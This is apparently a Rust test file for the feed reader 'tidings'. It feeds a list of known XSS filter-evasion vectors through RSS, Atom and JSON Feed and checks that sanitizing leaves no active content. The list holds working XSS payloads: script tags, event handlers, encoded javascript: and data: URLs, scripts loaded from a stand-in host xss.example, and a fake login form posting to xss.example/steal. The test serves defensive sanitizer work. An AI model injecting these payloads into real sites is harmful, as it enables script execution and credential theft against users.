//! Sanitizing through the real pipeline: known XSS vectors (in the style of OWASP's XSS
//! filter evasion cheat sheet) served in RSS, Atom and JSON Feed by a server on 127.0.0.1,
//! stored by `tidings once`, and the stored records judged by an independent html5ever-based
//! audit (`tests/common/html_audit.rs`): the HTML carries no script, event handler, style,
//! `javascript:`/`data:` URL or form, and the plain text carries no markup.

mod common;

use common::html_audit::audit;
use common::*;
use serde_json::{json, Value};
use wiremock::MockServer;

/// XSS vectors, each a piece of entry HTML.
const VECTORS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<iframe src=https://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
    "<a href=\"&#1;javascript:alert(1)\">ctl</a>",
    "<a href=\"java&#0;script:alert(1)\">nul</a>",
    "<form action=\"https://xss.example/steal\"><input name=\"password\" type=\"password\"><button>Log in</button></form>",
    "<button formaction=\"javascript:alert(1)\">b</button>",
    "<textarea autofocus onfocus=alert(1)>t</textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<p style=\"x:expression(alert(1))\">css</p>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<a href=\"  javascript:alert(1)\">lead space</a>",
    "<a href=\"javascript&colon;alert(1)\">colon entity</a>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<applet code=\"x\"></applet>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
];

/// Markup left in plain text: `<` followed by a letter, `/`, `!` or `?`.
fn has_markup(text: &str) -> bool {
    text.as_bytes()
        .windows(2)
        .any(|w| w[0] == b'<' && (w[1].is_ascii_alphabetic() || b"/!?".contains(&w[1])))
}

fn cdata(html: &str) -> String {
    format!("<![CDATA[{}]]>", html.replace("]]>", "]]]]><![CDATA[>"))
}

fn rss_feed() -> String {
    let items: String = VECTORS
        .iter()
        .enumerate()
        .map(|(n, v)| {
            format!(
                "<item><title>RSS {n} {}</title><guid>rss-{n}</guid>\
                 <link>https://news.example/rss/{n}</link>\
                 <description>{}</description></item>",
                quick_xml_escape(v),
                cdata(&format!(
                    "<p>Paragraph before.</p>{v}<p>Paragraph after.</p>"
                ))
            )
        })
        .collect();
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel>\
         <title>XSS RSS</title><link>https://news.example/</link>{items}</channel></rss>"
    )
}

fn atom_feed() -> String {
    let entries: String = VECTORS
        .iter()
        .enumerate()
        .map(|(n, v)| {
            format!(
                "<entry><id>urn:atom:{n}</id><title type=\"html\">{}</title>\
                 <updated>2016-12-08T10:00:00Z</updated>\
                 <link href=\"https://news.example/atom/{n}\"/>\
                 <content type=\"html\">{}</content></entry>",
                quick_xml_escape(&format!("Atom {n} {v}")),
                quick_xml_escape(&format!("<p>Before.</p>{v}<p>After.</p>"))
            )
        })
        .collect();
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><feed xmlns=\"http://www.w3.org/2005/Atom\">\
         <id>urn:atom</id><title>XSS Atom</title><updated>2016-12-08T10:00:00Z</updated>\
         {entries}</feed>"
    )
}

fn json_feed() -> String {
    let items: Vec<Value> = VECTORS
        .iter()
        .enumerate()
        .map(|(n, v)| {
            json!({
                "id": format!("json-{n}"),
                "url": format!("https://news.example/json/{n}"),
                "title": format!("JSON {n} {v}"),
                "content_html": format!("<p>Before.</p>{v}<p>After.</p>"),
            })
        })
        .collect();
    json!({
        "version": "https://jsonfeed.org/version/1.1",
        "title": "XSS JSON",
        "items": items,
    })
    .to_string()
}

/// XML text escaping for element content.
fn quick_xml_escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

#[tokio::test]
async fn known_xss_vectors_leave_no_active_content_in_any_feed_format() {
    let server = MockServer::start().await;
    serve(
        &server,
        "/rss",
        rss_feed().into_bytes(),
        "application/rss+xml",
    )
    .await;
    serve(
        &server,
        "/atom",
        atom_feed().into_bytes(),
        "application/atom+xml",
    )
    .await;
    serve(
        &server,
        "/json",
        json_feed().into_bytes(),
        "application/feed+json",
    )
    .await;
    let urls: Vec<String> = ["/rss", "/atom", "/json"]
        .iter()
        .map(|p| format!("{}{p}", server.uri()))
        .collect();
    let ws = Workspace::new();
    ws.write_feeds_config("", &urls.iter().map(String::as_str).collect::<Vec<_>>());
    let summary = ws.once(&[]);
    assert_eq!((summary.fetched, summary.failed), (3, 0), "{summary}");

    let articles = ws.articles(&[]);
    assert_eq!(articles.len(), 3 * VECTORS.len(), "every entry is kept");
    let mut failures = Vec::new();
    for a in &articles {
        let title = a["title"].as_str().unwrap_or_default();
        if let Some(html) = a["body_html"].as_str() {
            for problem in audit(html) {
                failures.push(format!("{title}: body_html has {problem}: {html}"));
            }
        }
        for field in ["body_text", "summary"] {
            if let Some(text) = a[field].as_str() {
                if has_markup(text) {
                    failures.push(format!("{title}: {field} has markup: {text:?}"));
                }
            }
        }
        // Titles are plain text that may hold angle brackets (`Vec<T>`), so a made-up tag
        // such as `<xss ...>` stays as text; no tag of an HTML element that runs, embeds or
        // submits anything may.
        for problem in audit(title) {
            if problem.starts_with("element") {
                failures.push(format!("{title}: title has {problem}"));
            }
        }
        let body = a["body_text"].as_str().unwrap_or_default();
        assert!(
            body.contains("Before") || body.contains("before"),
            "the harmless text around a vector survives: {body:?}"
        );
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_audit_itself_catches_what_it_looks_for() {
    // The second opinion must not be blind: raw vectors fail it.
    for vector in [
        "<script>x</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\" JaVa\tScRiPt:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<form><input></form>",
        "<p style=\"x\">p</p>",
    ] {
        assert!(!audit(vector).is_empty(), "{vector}");
    }
    assert!(audit("<p><a href=\"https://ok.example/\" rel=\"noopener\">ok</a></p>").is_empty());
    assert!(has_markup("a <b>bold</b>"));
    assert!(!has_markup("1 < 2 and 3 > 2"));
}
